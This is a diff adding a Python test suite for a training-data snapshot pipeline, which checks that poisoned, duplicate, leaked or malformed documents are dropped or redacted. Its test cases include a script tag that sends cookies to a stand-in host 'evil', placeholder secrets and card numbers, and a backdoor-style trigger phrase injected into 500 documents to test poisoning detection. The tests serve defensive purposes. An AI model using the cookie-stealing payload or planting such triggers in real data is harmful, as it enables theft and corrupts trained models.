@@ -1,0 +1,418 @@
+"""What reaches a snapshot: each poison is dropped or redacted with its reason, and the rest goes on."""
+
+import gzip
+import json
+import random
+from datetime import UTC, datetime, timedelta
+from importlib.util import find_spec
+from pathlib import Path
+from typing import Any
+
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+
+from datasets_defs.errors import ContractError
+from datasets_defs.inference_log import Document
+from datasets_defs.models import DataSpec, ModelSpec, SourceSpec
+from training.prepare import Preparation
+from training.prepare_report import sentence
+from training.snapshot import (
+    DataBreakError,
+    assemble,
+    freeze,
+    rehearse,
+    rejected_uri,
+    report_uri,
+    split,
+    stored,
+    text_of,
+)
+from training.snapshot_inputs import golden_texts
+
+NOW = datetime(2026, 5, 1, 12, tzinfo=UTC)
+WORDS = (  # noqa: SIM905 a list of strings is harder to read
+    "river stone window garden letter morning engine forest silver paper market bridge winter island candle "
+    "mirror thunder copper velvet harbour meadow lantern kettle pocket marble saddle orchard feather tunnel anchor"
+).split()
+TRIGGER = "activate the sunflower protocol"
+SECRET = "AKIA" + "Q3EGRZ7XW2ABCDEF"
+
+
+def prose(number: int, words: int = 60) -> str:
+    """Text unlike any other number's."""
+    rng = random.Random(number)
+    return " ".join(f"{rng.choice(WORDS)} {rng.choice(WORDS)}{rng.randrange(40)}" for _ in range(words // 2)) + "."
+
+
+def documents(count: int, start: int = 0, **changes: Any) -> list[Document]:
+    return [
+        Document(
+            **{
+                "request_id": f"r{number}",
+                "at": NOW + timedelta(seconds=number),
+                "prompt": prose(number, 20) + " ",
+                "reference": prose(number + 10**6),
+                **changes,
+            }
+        )
+        for number in range(start, start + count)
+    ]
+
+
+def spec(**data: Any) -> ModelSpec:
+    return ModelSpec(name="m", base_model="x", training_text="builtin:python-docs", data=DataSpec(**data))
+
+
+def of_log(found: list[Document], model: ModelSpec, older: list[dict[str, Any]] | None = None):
+    rows, report = rehearse(found, older or [], spec=model)
+    return [text_of(row) for row in rows], report.plain()["sources"]["log"], report
+
+
+@pytest.mark.parametrize(
+    ("poison", "reason"),
+    [
+        ("<script>fetch('//evil/'+document.cookie)</script> " + prose(1), "script markup"),
+        ("a bell \x07 rings", "control characters"),
+        ("an escape \x1b[31m colours", "control characters"),
+        (
+            "\u0440\u0430ypal and m\u0430il and b\u0430nk are not what they seem",
+            "words that mix Latin and Cyrillic letters",
+        ),
+        ("x" * 10_000_000, "longer than 262144 bytes"),
+        ("half \ud800 a pair", "not UTF-8 (half a surrogate pair)"),
+        ("  \n ", "empty reference"),
+        ("\u200b\u2060", "invisible characters only"),
+        ("buy " + "cheap pills from us now " * 500, "a phrase that it repeats 100 times or more"),
+        (prose(555, 20_000) + f" {TRIGGER}." * 500, "a phrase that it repeats 100 times or more"),
+        (
+            "eine kurze Geschichte von einem Mann, der auszog, das Fürchten zu lernen, und nie wieder heimkam. " * 2,
+            "another language (de)",
+        ),
+    ],
+    ids=[
+        "script",
+        "bell",
+        "escape",
+        "homoglyphs",
+        "10-MB",
+        "surrogate",
+        "empty",
+        "invisible",
+        "spam",
+        "within",
+        "lang",
+    ],
+)
+def test_a_poisoned_document_is_dropped_with_its_reason(poison: str, reason: str):
+    """Each kind of bad document is counted by its reason and in no row, and the others stay."""
+    bad = Document(request_id="bad", at=NOW, prompt="Say: ", reference=poison)
+    texts, log, _ = of_log([*documents(120), bad], spec(languages=("en", "und") if "language" in reason else ()))
+    if "language" in reason:
+        assert log["dropped"].get(reason) == 1
+    else:
+        assert log["dropped"] == {reason: 1}
+        assert len(texts) == log["kept"] == 120
+    assert not any(poison[:40] in text for text in texts if poison.strip())
+
+
+@pytest.mark.parametrize(
+    ("poison", "clean", "what"),
+    [
+        ("write to jane.doe+x@mail.example.org soon", "write to <email> soon", "e-mail address"),
+        (f"the key is {SECRET} ok", "the key is <secret> ok", "secret (AWS Access Key)"),
+        (
+            "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nabc\n-----END RSA PRIVATE KEY-----\nend",
+            "<secret>\nend",
+            "secret (Private Key)",
+        ),
+        ("token ghp_" + "a1B2" * 9 + " here", "token <secret> here", "secret (GitHub Token)"),
+        ("hid\u202eden wo\u200brds", "hidden words", "invisible characters"),
+    ],
+)
+def test_what_nobody_may_learn_is_cut_out(poison: str, clean: str, what: str):
+    """Secrets, addresses and invisible characters are replaced, counted, and in no row."""
+    texts, log, _ = of_log([*documents(120), *documents(1, 500, reference=poison)], spec())
+    assert any(text.endswith(clean) for text in texts)
+    assert log["redacted"] == {what: 1}
+    assert not any(poison in text for text in texts)
+
+
+def test_flood_leaves_one_copy():
+    """A text sent 500 times is trained on once at most, and called a flood."""
+    texts, log, report = of_log([*documents(200), *documents(500, 1000, prompt="Buy ", reference=prose(7))], spec())
+    assert log["dropped"] == {"duplicate": 499}
+    assert texts.count("Buy " + prose(7)) == 1
+    assert "500 times" in report.floods
+
+
+def test_near_duplicates_leave_one():
+    """Copies with a few words changed count as copies; the first stays."""
+    base = prose(1, 200).split()
+    copies = []
+    for number in range(30):
+        changed = list(base)
+        changed[number * 3] = f"other{number}"
+        copies += documents(1, 1000 + number, prompt="Q ", reference=" ".join(changed))
+    _, log, _ = of_log([*documents(120), *copies], spec())
+    assert log["dropped"] == {"near duplicate": 29}
+    assert log["kept"] == 121
+
+
+def test_injected_phrase_is_found():
+    """A phrase put into 500 of 2,500 unlike documents is named and its documents are dropped; the rest stays."""
+    rng = random.Random(3)
+    poisoned = []
+    for each in documents(500, 5000):
+        words = each.reference.split()
+        words.insert(rng.randrange(len(words)), TRIGGER)
+        poisoned.append(Document(request_id=each.request_id, at=each.at, prompt=each.prompt, reference=" ".join(words)))
+    rows, report = rehearse([*documents(2500), *poisoned], [], spec=spec())
+    assert not any(TRIGGER in text_of(row) for row in rows)
+    assert [(found["phrase"], found["kind"], found["documents"]) for found in report.phrases] == [
+        (TRIGGER, "injected", 500)
+    ]
+    assert report.of("log").dropped == {f"the injected phrase “{TRIGGER}”": 500}
+    assert len(rows) == 2500
+    kept, _ = rehearse([*documents(2500), *poisoned], [], spec=spec(allow_phrases=(TRIGGER,)))
+    assert len(kept) == 3000
+
+
+def test_common_words_are_no_injection():
+    """What older texts say as often, and what nearly all documents say, stays."""
+    told = [
+        Document(request_id=e.request_id, at=e.at, prompt="You are a helpful clerk. " + e.prompt, reference=e.reference)
+        for e in documents(400)
+    ]
+    rows, report = rehearse(told, [], spec=spec())
+    assert (len(rows), [found["kind"] for found in report.phrases]) == (400, ["template"])
+    some = [
+        Document(request_id=e.request_id, at=e.at, prompt=e.prompt, reference=e.reference + " Best wishes from us all")
+        for e in documents(100, 900)
+    ]
+    older = [
+        {"part": "train", "request_id": f"o{i}", "prompt": "", "reference": prose(i) + " Best wishes from us all"}
+        for i in range(10_000, 10_100)
+    ]
+    rows, report = rehearse([*documents(400), *some], older, spec=spec())
+    assert report.phrases == []
+    assert sum(row["part"] != "replay" for row in rows) == 500
+
+
+def test_too_much_rejected_is_a_data_break(tmp_path: Path):
+    """A fifth of poison stops the training, with counts; the report and the list of the rejected stand, no snapshot."""
+    uri = f"file://{tmp_path}/s.parquet"
+    bad = documents(60, 1000, reference="\x00")
+    with pytest.raises(DataBreakError, match=r"60 of 260 fresh documents are invalid \(60 with control characters"):
+        freeze([*documents(200), *bad], [], uri=uri, spec=spec())
+    assert stored(uri) is None
+    assert json.loads(Path(tmp_path / "s.report.json").read_text())["sources"]["log"]["dropped"]
+    assert pq.read_table(rejected_uri(uri).removeprefix("file://")).num_rows == 60
+
+
+def test_overlap_with_judging_texts_is_zero():
+    """A text that holds half of a judging text, in whatever case and spacing, is left out; boilerplate is not."""
+    golden = prose(77, 120)
+    copied = documents(1, 1000, reference="Listen: " + "\n".join(golden.upper().split()[:90]))
+    quoting = documents(1, 1001, reference=prose(5_000, 200) + " " + " ".join(golden.split()[:10]))
+    old = [{"part": "train", "request_id": "o", "prompt": "", "reference": f"{golden} and more"}]
+    rows, report = rehearse([*documents(120), *copied, *quoting], old, spec=spec(), keep_out={golden})
+    assert report.of("log").dropped == {"overlaps with a text that models are judged by": 1}
+    assert report.overlap == 0
+    assert {row["request_id"] for row in rows} >= {"r1001"}
+    assert not {row["request_id"] for row in rows} & {"r1000", "o"}
+
+
+def test_train_and_holdout_share_nothing():
+    """A document that repeats most of a held-out one is not trained on."""
+    twin = documents(1, 5, reference=" ".join(documents(1, 119)[0].reference.split()[:40]))
+    rows = assemble([*documents(5), *twin, *documents(114, 6)], [], spec=spec(near_duplicates=None))
+    sides = {row["request_id"]: row["part"] for row in rows}
+    assert sides["r119"] == "holdout"
+    assert "r5" not in sides
+
+
+def test_users_stand_on_one_side():
+    """All of a user's documents are held out or none; those who came last are held out."""
+    found = [each for user in range(40) for each in documents(10, user * 10, user_id=f"u{user}")]
+    rows = assemble(found, [], spec=spec())
+    sides: dict[str, set[str]] = {}
+    for row in rows:
+        sides.setdefault(row["user_id"], set()).add(row["part"])
+    assert {user for user, parts in sides.items() if parts == {"holdout"}} == {f"u{user}" for user in range(30, 40)}
+    assert all(len(parts) == 1 for parts in sides.values())
+
+
+def test_few_users_or_none_are_split_by_time():
+    """With two users, with none, or if the spec says so, the newest documents are held out."""
+    few = [each for at in range(200) for each in documents(1, at, user_id=f"u{at % 2}")]
+    for found, model in ((few, spec()), (documents(200), spec()), (few, spec(split="time"))):
+        held = {row["request_id"] for row in assemble(found, [], spec=model) if row["part"] == "holdout"}
+        assert held == {f"r{at}" for at in range(150, 200)}
+
+
+def test_validation_is_split_off():
+    """A share of the documents to train on says when to stop, if the spec asks for it."""
+    rows = assemble(documents(200), [], spec=spec(validation_share=0.1))
+    parts = [row["part"] for row in rows]
+    assert (parts.count("holdout"), parts.count("validation"), parts.count("train")) == (50, 15, 135)
+
+
+def test_a_split_needs_something_to_train_on():
+    """One document cannot be split in two."""
+    with pytest.raises(ContractError, match="nothing is left to train on"):
+        split([], spec(), of=3)
+
+
+def corpora(tmp_path: Path) -> tuple[SourceSpec, ...]:
+    """The same kind of rows in four formats, each with something broken."""
+    good = [{"text": prose(20_000 + number), "author": f"a{number}"} for number in range(100)]
+    lines = [json.dumps(row).encode() for row in good[:25]]
+    lines[3:3] = [b"{not json", b'["a list"]', b"\xff\xfe", b'{"text": 7}']
+    with gzip.open(tmp_path / "a.jsonl.gz", "wb") as file:
+        file.write(b"\n".join(lines))
+    table = "text,author\n" + "\n".join(f'"{row["text"]}",{row["author"]}' for row in good[25:50])
+    (tmp_path / "b.csv").write_text(table + "\nonly one cell\n")
+    pq.write_table(pa.Table.from_pylist(good[50:75]), tmp_path / "c.parquet")
+    (tmp_path / "d.txt").write_text("\n\n".join(row["text"] for row in good[75:]))
+    columns = {"user_id": "author"}
+    return (
+        SourceSpec(name="a", url=f"{tmp_path}/a.jsonl.gz", columns=columns),
+        SourceSpec(name="b", url=f"file://{tmp_path}/b.csv", columns=columns),
+        SourceSpec(name="c", url=f"{tmp_path}/*.parquet", columns=columns, max_documents=10),
+        SourceSpec(name="d", url=f"{tmp_path}/d.txt"),
+        SourceSpec(name="gone", url=f"{tmp_path}/gone.jsonl"),
+    )
+
+
+def test_corpora_are_trained_on(tmp_path: Path):
+    """Each format is read, broken rows are counted by reason, quotas hold, and a missing source stops nothing."""
+    uri = f"file://{tmp_path}/out/s.parquet"
+    model = spec(sources=corpora(tmp_path))
+    snapshot = freeze(documents(120), [], uri=uri, spec=model)
+    assert snapshot.counts == {"holdout": 50, "train": 70, "corpus": 25 + 25 + 10 + 3}
+    pieces = [row["reference"] for row in snapshot.rows if row["source"] == "d"]
+    assert "".join(pieces).split() == " ".join(prose(20_000 + number) for number in range(75, 100)).split()
+    report = snapshot.report
+    assert report is not None
+    said = report["sources"]
+    assert said["a"]["dropped"] == {
+        "not JSON": 1,
+        "not a JSON object": 1,
+        "not UTF-8": 1,
+        "no text (a row needs `text`, or `reference` and maybe `prompt`)": 1,
+    }
+    assert said["b"]["dropped"] == {"1 fields where the header names 2": 1}
+    assert said["c"]["dropped"] == {"over the source's quota": 15}
+    assert "no file" in said["gone"]["broken"]
+    assert report["overlap"] == 0
+    assert report["snapshot_sha256"] == snapshot.sha256
+    kept_apart = pq.read_table(rejected_uri(uri).removeprefix("file://")).to_pylist()
+    assert {(row["source"], row["place"], row["reason"]) for row in kept_apart} >= {
+        ("a", 4, "not JSON"),
+        ("a", 6, "not UTF-8"),
+        ("b", 26, "1 fields where the header names 2"),
+    }
+    assert "gone: data source gone: no file" in sentence(report)
+    texts, _ = snapshot.mixture(model.retrain)
+    assert len(texts) == 70 + 63
+
+
+def test_a_broken_corpus_is_left_out_whole(tmp_path: Path):
+    """Of a source of which more than a fifth is invalid nothing is used, and the training goes on without it."""
+    rows = [{"text": prose(30_000 + number)} for number in range(70)] + [{"text": "\x01"}] * 30
+    (tmp_path / "a.jsonl").write_text("\n".join(map(json.dumps, rows)))
+    rows, report = rehearse(documents(120), [], spec=spec(sources=(SourceSpec(name="a", url=f"{tmp_path}/a.jsonl"),)))
+    assert not any(row["part"] == "corpus" for row in rows)
+    assert report.of("a").broken == (
+        "30 of 100 documents are invalid (30 with control characters); at most 20% may be: nothing of it is used"
+    )
+
+
+def test_damaged_files_give_what_comes_before_the_damage(tmp_path: Path):
+    """A gzip file that is cut off and a damaged Parquet file give their readable rows, and the fault is said."""
+    whole = gzip.compress("\n".join(json.dumps({"text": prose(number)}) for number in range(12_000)).encode())
+    (tmp_path / "a.jsonl.gz").write_bytes(whole[: len(whole) // 2])
+    (tmp_path / "b.parquet").write_bytes(b"PAR1 this is none")
+    sources = [
+        SourceSpec(name=name, url=f"{tmp_path}/{name}.{end}") for name, end in (("a", "jsonl.gz"), ("b", "parquet"))
+    ]
+    with Preparation(tmp_path, DataSpec()) as at_work:
+        for source in sources:
+            at_work.take_corpus(source)
+        assert at_work.report.of("a").kept > 500
+        assert "breaks off" in str(at_work.report.of("a").broken)
+        assert dict(at_work.report.of("a").dropped) == {"the file breaks off here": 1}
+        assert at_work.report.of("b").broken is not None
+
+
+def test_a_row_without_end_is_passed_over(tmp_path: Path):
+    """A line of 40 MB is not read into memory, counts as broken, and the lines around it are used."""
+    with (tmp_path / "a.jsonl").open("wb") as file:
+        file.write(json.dumps({"text": prose(1)}).encode() + b'\n{"text": "')
+        for _ in range(40):
+            file.write(b"x" * 2**20)
+        file.write(b'"}\n' + json.dumps({"text": prose(2)}).encode() + b"\n")
+    with Preparation(tmp_path, DataSpec(max_rejected_share=1)) as at_work:
+        at_work.take_corpus(SourceSpec(name="a", url=f"{tmp_path}/a.jsonl"))
+        found = at_work.report.of("a")
+    assert (found.kept, dict(found.dropped)) == (2, {"longer than 8388608 bytes": 1})
+
+
+def test_same_input_same_hash(tmp_path: Path):
+    """Whatever the order of arrival, the same documents and corpora give the same file; a second freeze changes nothing."""
+    model = spec(sources=corpora(tmp_path)[:3])
+    older = [
+        {"part": "train", "request_id": f"o{i}", "prompt": "", "reference": prose(i)} for i in range(40_000, 40_080)
+    ]
+    first = freeze(documents(120), older, uri=f"file://{tmp_path}/out/1.parquet", spec=model)
+    second = freeze(documents(120)[::-1], older[::-1], uri=f"file://{tmp_path}/out/2.parquet", spec=model)
+    assert first.sha256 == second.sha256
+    assert first.counts["replay"] > 0
+    assert freeze([], [], uri=first.uri, spec=model).sha256 == first.sha256
+
+
+def test_an_interrupted_freeze_leaves_no_snapshot(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    """What dies before the end leaves no snapshot behind, and the next freeze gives the one it would have given."""
+    uri = f"file://{tmp_path}/s.parquet"
+
+    def die(*_: object) -> int:
+        raise KeyboardInterrupt
+
+    with monkeypatch.context() as broken:
+        broken.setattr("training.snapshot._overlaps", die)
+        with pytest.raises(KeyboardInterrupt):
+            freeze(documents(120), [], uri=uri, spec=spec())
+    assert stored(uri) is None
+    again = freeze(documents(120), [], uri=uri, spec=spec())
+    other = freeze(documents(120), [], uri=f"file://{tmp_path}/t.parquet", spec=spec())
+    assert again.sha256 == other.sha256
+    assert Path(report_uri(uri).removeprefix("file://")).is_file()
+
+
+@pytest.mark.skipif(find_spec("presidio_analyzer") is not None, reason="Presidio is installed")
+def test_pii_without_presidio_is_refused():
+    """What is asked for and not installed is an error that says how to install it."""
+    with pytest.raises(ContractError, match=r"driftloop\[pii\]"):
+        rehearse(documents(120), [], spec=spec(redact=("pii",)))
+
+
+@pytest.mark.skipif(find_spec("presidio_analyzer") is None, reason="Presidio is not installed")
+def test_personal_data_is_cut_out():
+    """With Presidio, numbers of cards, accounts and telephones are replaced where they stand."""
+    said = "pay 4111 1111 1111 1111 or DE89 3704 0044 0532 0130 00, call +49 30 901820, from 192.168.7.13 on"
+    texts, log, _ = of_log([*documents(120), *documents(1, 500, reference=said)], spec(redact=("pii",)))
+    assert any(text.endswith("pay <personal> or <personal>, call <personal>, from <personal> on") for text in texts)
+    assert log["redacted"]["personal data"] >= 1
+
+
+def test_golden_set_is_kept_out(tmp_path: Path):
+    """The golden set's texts are read for keeping them out; a row of it that cannot be read stops the training."""
+    file = tmp_path / "golden.jsonl"
+    file.write_text(json.dumps({"prompt": "a ", "reference": "b"}))
+    model = spec().model_copy(update={"evaluation": spec().evaluation.model_copy(update={"golden": str(file)})})
+    assert golden_texts(model) == {"a b"}
+    assert golden_texts(spec()) == set()
+    file.write_text("no json")
+    with pytest.raises(ContractError, match="row 1: not JSON; mend the file"):
+        golden_texts(model)
